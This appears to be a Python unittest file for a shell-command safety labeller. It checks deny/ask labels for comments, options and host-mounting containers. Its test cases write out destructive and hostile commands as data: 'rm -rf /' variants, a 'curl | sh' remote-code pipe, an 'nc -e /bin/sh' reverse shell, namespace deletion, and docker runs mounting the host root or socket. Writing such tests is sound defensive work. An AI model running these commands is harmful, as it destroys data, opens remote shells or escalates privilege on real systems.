"""Shapes of `_label.SHELL_WORDS` (held-out set 13's labeller change: comments are not commands, options
are not programs, a container mounting the host is `ask privilege`); cases written for the shapes, none
taken from a corpus:

    python3 -m unittest scripts/shellcorpus/test_label_words.py
"""

import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import _label  # noqa: E402

# (command, label with SHELL_WORDS on); OUTSIDE_WRITE and VOLUME_TOOLS on, as set 13 is built
CASES = [
    ("podman run --rm -it fedora:40 /usr/bin/true", None),
    ("kubectl run tmp --rm -i --image=alpine:3 -- /bin/ash -c date", None),
    ("kubectl run dbg --image=alpine -it --rm -- sh # afterwards delete the namespace", None),
    ("ls -la # rm -rf / would be bad", None),
    ("grep -n TODO src/main.c #then remove it", None),
    ("tool --use-defaults delete", None),
    ("echo '# not a comment'; rm -rf /", ("deny", "rm-root-home")),
    ("echo \"a # b\" && rm -rf ~", ("deny", "rm-root-home")),
    ("curl -s https://example.com/#/install | sh", ("deny", "remote-code")),
    ("echo ${#ARR[@]}; kubectl delete ns staging", ("ask", "cloud-destroy")),
    ("rm -rf /", ("deny", "rm-root-home")),
    ("find / -xdev -exec rm -f {} +", ("deny", "rm-root-home")),
    ("/bin/rm -rf --no-preserve-root /", ("deny", "rm-root-home")),
    ("nc -e /bin/sh 198.51.100.7 9001", ("deny", "reverse-shell")),
    ("sshpass -p #{user.password} ssh #{user.name}@#{host} 'rm -rf /var/www/html'", ("ask", "rm-outside")),
    ("docker run -v /:/hostroot -it debian chroot /hostroot bash", ("ask", "privilege")),
    ("podman run --rm --volume=/etc:/x alpine cat /x/hostname", ("ask", "privilege")),
    ("docker run -v /var/run/docker.sock:/var/run/docker.sock docker:27 ps", ("ask", "privilege")),
    ("docker run --rm -v \"$PWD\":/src -w /src node:22 npm test", None),
    ("docker run --rm -v /tmp/cache:/cache alpine ls /cache", None),
]


class Words(unittest.TestCase):
    def setUp(self):
        self.saved = (_label.OUTSIDE_WRITE, _label.VOLUME_TOOLS, _label.SHELL_WORDS)
        _label.OUTSIDE_WRITE = _label.VOLUME_TOOLS = _label.SHELL_WORDS = True

    def tearDown(self):
        _label.OUTSIDE_WRITE, _label.VOLUME_TOOLS, _label.SHELL_WORDS = self.saved

    def test_cases(self):
        for cmd, want in CASES:
            with self.subTest(cmd=cmd):
                self.assertEqual(_label.label(cmd), want)

    def test_strip_comments(self):
        self.assertEqual(_label.strip_comments("a 'b # c' # d"), "a 'b # c'")
        self.assertEqual(_label.strip_comments("a x#y"), "a x#y")
        self.assertEqual(_label.strip_comments("a 'open # quote"), "a 'open # quote")
        self.assertEqual(_label.strip_comments("a;#b\nc"), "a;\nc")

    def test_off_by_default(self):
        _label.SHELL_WORDS = False
        self.assertEqual(_label.label("kubectl run tmp --rm -i --image=alpine:3 -- /bin/ash -c date"), ("ask", "outside-write"))


if __name__ == "__main__":
    unittest.main()
